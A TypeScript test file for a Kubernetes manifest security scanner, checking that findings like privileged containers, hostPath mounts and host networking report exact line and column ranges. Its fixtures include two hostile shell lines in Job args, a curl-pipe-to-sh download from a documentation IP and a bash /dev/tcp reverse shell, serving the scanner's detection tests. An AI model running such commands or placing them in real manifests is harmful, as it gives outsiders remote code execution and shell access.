/**
 * Exact source ranges (docs/decoding.md, docs/cli.md "json"): a scalar finding covers its value, a collection finding its key and
 * value, never the whole document; lines and columns are 1-based, in every kind of document.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyseManifest, type Finding, type Range } from '../src/index.js';

/** The text a range covers, lines joined with \n. */
function textAt(text: string, range: Range): string {
  const lines = text.split('\n').map((line) => line.replace(/\r$/, ''));
  const { start, end } = range;
  if (start.line === end.line) return lines[start.line - 1].slice(start.column - 1, end.column - 1);
  return [lines[start.line - 1].slice(start.column - 1), ...lines.slice(start.line, end.line - 1), lines[end.line - 1].slice(0, end.column - 1)].join('\n');
}

function find(text: string, indicator: string, index = 0): Finding {
  const findings = analyseManifest(text, 'ranges.yaml').findings.filter((finding) => finding.indicator === indicator);
  assert.ok(findings[index], `expected a ${indicator} finding`);
  return findings[index];
}

function job(podSpec: string): string {
  return `apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: j\nspec:\n  template:\n    spec:\n${podSpec.replace(/^(?=.)/gm, '      ')}`;
}

describe('scalar ranges', () => {
  it('a plain scalar: exactly the value, line and columns', () => {
    const text = job('containers:\n  - name: c\n    image: busybox:1.36\n');
    const finding = find(text, 'attacker-tooling');
    assert.deepEqual(finding.range, { start: { line: 10, column: 18 }, end: { line: 10, column: 30 } });
    assert.equal(textAt(text, finding.range!), 'busybox:1.36');
    assert.deepEqual(finding.span, { start: text.indexOf('busybox'), end: text.indexOf('busybox') + 'busybox:1.36'.length });
  });

  it('a double-quoted and a single-quoted scalar: the value inside the quotes', () => {
    const text = job('containers:\n  - name: a\n    image: "alpine:3.20"\n  - name: b\n    image: \'ubuntu:24.04\'\n');
    assert.equal(textAt(text, find(text, 'attacker-tooling', 0).range!), 'alpine:3.20');
    assert.equal(textAt(text, find(text, 'attacker-tooling', 1).range!), 'ubuntu:24.04');
  });

  it('a boolean scalar, written as true or as YAML 1.1 yes (Kubernetes reads both as true)', () => {
    const text = job('containers:\n  - name: a\n    image: registry.example/a:1\n    securityContext: {privileged: yes}\nhostNetwork: true\n');
    const privileged = find(text, 'privileged-container');
    assert.equal(textAt(text, privileged.range!), 'yes');
    assert.equal(privileged.path, '/spec/template/spec/containers/0/securityContext/privileged');
    assert.deepEqual(find(text, 'host-network').range, { start: { line: 12, column: 20 }, end: { line: 12, column: 24 } });
  });

  it('a literal block scalar: the offending line of the script, not the whole block', () => {
    const script = 'set -e\ncurl -fsSL http://203.0.113.9/x.sh | sh\necho done';
    const text = job(`containers:\n  - name: c\n    image: registry.example/a:1\n    command: ["/bin/sh", "-c"]\n    args:\n      - |\n${script.replace(/^/gm, '        ')}\n`);
    const finding = find(text, 'shell-escape');
    assert.equal(finding.path, '/spec/template/spec/containers/0/args/0');
    assert.equal(textAt(text, finding.range!), 'curl -fsSL http://203.0.113.9/x.sh | sh');
    assert.deepEqual(finding.range!.start, { line: 15, column: 15 });
  });

  it('a folded block scalar with a chomping indicator', () => {
    const text = job('containers:\n  - name: c\n    image: registry.example/a:1\n    command: [/bin/sh, -c]\n    args:\n      - >-\n        bash -i >& /dev/tcp/198.51.100.4/443 0>&1\n\n');
    assert.equal(textAt(text, find(text, 'shell-escape').range!), 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1');
  });
});

describe('collection ranges: the key and the value', () => {
  it('a block mapping value runs from its key to its last character', () => {
    const text = job('containers:\n  - {name: c, image: registry.example/a:1}\nvolumes:\n  - name: logs\n    hostPath:\n      path: /var/log\n      type: Directory\n');
    const finding = find(text, 'host-path-mount');
    assert.equal(finding.path, '/spec/template/spec/volumes/0/hostPath');
    assert.equal(textAt(text, finding.range!), 'hostPath:\n            path: /var/log\n            type: Directory');
  });

  it('a flow mapping value, to its closing brace', () => {
    const text = job('containers:\n  - {name: c, image: registry.example/a:1}\nvolumes:\n  - {name: logs, hostPath: {path: /var/log}}\n');
    assert.equal(textAt(text, find(text, 'host-path-mount').range!), 'hostPath: {path: /var/log}');
  });

  it('never the whole document', () => {
    const text = job('containers:\n  - {name: c, image: registry.example/a:1, securityContext: {capabilities: {add: [SYS_ADMIN]}}}\n');
    const finding = find(text, 'dangerous-capabilities');
    assert.ok(finding.range!.start.line >= 9);
    assert.ok(textAt(text, finding.range!).length < 40, textAt(text, finding.range!));
  });
});

describe('JSON documents', () => {
  it('points at the JSON value, on its line', () => {
    const text = [
      '{',
      '  "apiVersion": "batch/v1",',
      '  "kind": "Job",',
      '  "metadata": {"name": "j"},',
      '  "spec": {"template": {"spec": {',
      '    "hostPID": true,',
      '    "containers": [{"name": "c", "image": "nmap/nmap:7", "securityContext": {"privileged": true}}]',
      '  }}}',
      '}',
    ].join('\n');
    assert.deepEqual(find(text, 'host-pid').range, { start: { line: 6, column: 16 }, end: { line: 6, column: 20 } });
    assert.equal(textAt(text, find(text, 'attacker-tooling').range!), 'nmap/nmap:7');
    const privileged = find(text, 'privileged-container');
    assert.equal(textAt(text, privileged.range!), 'true');
    assert.equal(privileged.range!.start.line, 7);
  });

  it('a minified JSON document on one line', () => {
    const text = '{"apiVersion":"batch/v1","kind":"Job","spec":{"template":{"spec":{"hostIPC":true,"containers":[{"name":"c","image":"registry.example/a:1"}]}}}}';
    const finding = find(text, 'host-ipc');
    assert.deepEqual(finding.range, { start: { line: 1, column: 77 }, end: { line: 1, column: 81 } });
  });
});

describe('multi-document files', () => {
  const text = [
    '# a leading comment belongs to the first document',
    'apiVersion: v1',
    'kind: ConfigMap',
    'metadata: {name: settings}',
    '---',
    'apiVersion: batch/v1',
    'kind: Job',
    'metadata: {name: first}',
    'spec: {template: {spec: {containers: [{name: c, image: "kalilinux/kali-rolling"}]}}}',
    '---',
    '---',
    'apiVersion: batch/v1',
    'kind: CronJob',
    'metadata: {name: second, namespace: ops}',
    'spec:',
    '  schedule: "@hourly"',
    '  jobTemplate:',
    '    spec:',
    '      template:',
    '        spec:',
    '          hostNetwork: true',
    '          containers: [{name: c, image: registry.example/a:1}]',
    '',
  ].join('\n');
  const result = analyseManifest(text, 'multi.yaml');

  it('counts the documents that hold something (an empty one between markers does not count)', () => {
    assert.equal(result.documents, 3);
    assert.deepEqual(result.errors, []);
  });

  it('gives each finding its document index, object and absolute line', () => {
    assert.deepEqual(
      result.findings.map((finding) => [finding.document, finding.kind, finding.name, finding.namespace, finding.indicator, finding.range!.start.line]),
      [
        [1, 'Job', 'first', null, 'attacker-tooling', 9],
        [2, 'CronJob', 'second', 'ops', 'host-network', 21],
      ],
    );
  });
});

describe('aliases and merge keys', () => {
  const text = [
    'apiVersion: batch/v1',
    'kind: Job',
    'metadata: {name: shared}',
    'spec:',
    '  template:',
    '    spec:',
    '      containers:',
    '        - name: first',
    '          image: registry.example/a:1',
    '          securityContext: &root',
    '            privileged: true',
    '        - name: second',
    '          image: registry.example/b:1',
    '          securityContext: *root',
    '      volumes:',
    '        - &logs',
    '          name: logs',
    '          hostPath: {path: /var/log}',
    '        - <<: *logs',
    '          name: more-logs',
    '',
  ].join('\n');
  const findings = analyseManifest(text, 'alias.yaml').findings;

  it('a finding inside an anchor points at the anchored value', () => {
    const first = findings.find((finding) => finding.path === '/spec/template/spec/containers/0/securityContext/privileged')!;
    assert.equal(textAt(text, first.range!), 'true');
    assert.equal(first.range!.start.line, 11);
  });

  it('the same finding through an alias points at the alias, where it was brought in', () => {
    const second = findings.find((finding) => finding.path === '/spec/template/spec/containers/1/securityContext/privileged')!;
    assert.equal(textAt(text, second.range!), 'securityContext: *root');
    assert.equal(second.range!.start.line, 14);
  });

  it('a key brought in by a merge points at its `<<: *name` line; the mapping\'s own keys win', () => {
    const merged = findings.filter((finding) => finding.indicator === 'host-path-mount');
    assert.deepEqual(
      merged.map((finding) => [finding.path, textAt(text, finding.range!)]),
      [
        ['/spec/template/spec/volumes/0/hostPath', 'hostPath: {path: /var/log}'],
        ['/spec/template/spec/volumes/1/hostPath', '<<: *logs'],
      ],
    );
  });
});

describe('line endings and encodings', () => {
  it('CRLF files: the same lines and columns, the carriage return excluded', () => {
    const lf = job('hostNetwork: true\ncontainers:\n  - name: c\n    image: busybox\n');
    const crlf = lf.replace(/\n/g, '\r\n');
    const ranges = (text: string) => analyseManifest(text, 'x.yaml').findings.map((finding) => [finding.indicator, finding.range]);
    assert.deepEqual(ranges(crlf), ranges(lf));
    assert.equal(textAt(crlf, find(crlf, 'attacker-tooling').range!), 'busybox');
  });

  it('a lone carriage return (classic Mac line endings) ends a line too', () => {
    const lf = job('hostNetwork: true\ncontainers:\n  - name: c\n    image: busybox\n');
    const cr = lf.replace(/\n/g, '\r');
    const ranges = (text: string) => analyseManifest(text, 'x.yaml').findings.map((finding) => [finding.indicator, finding.range]);
    assert.deepEqual(ranges(cr), ranges(lf));
    assert.equal(ranges(cr).length, 2);
  });

  it('columns count UTF-16 code units, as editors do (an emoji before the value)', () => {
    const text = job('containers:\n  - {name: "🚀", image: alpine}\n');
    assert.deepEqual(find(text, 'attacker-tooling').range, { start: { line: 9, column: 31 }, end: { line: 9, column: 37 } });
  });
});
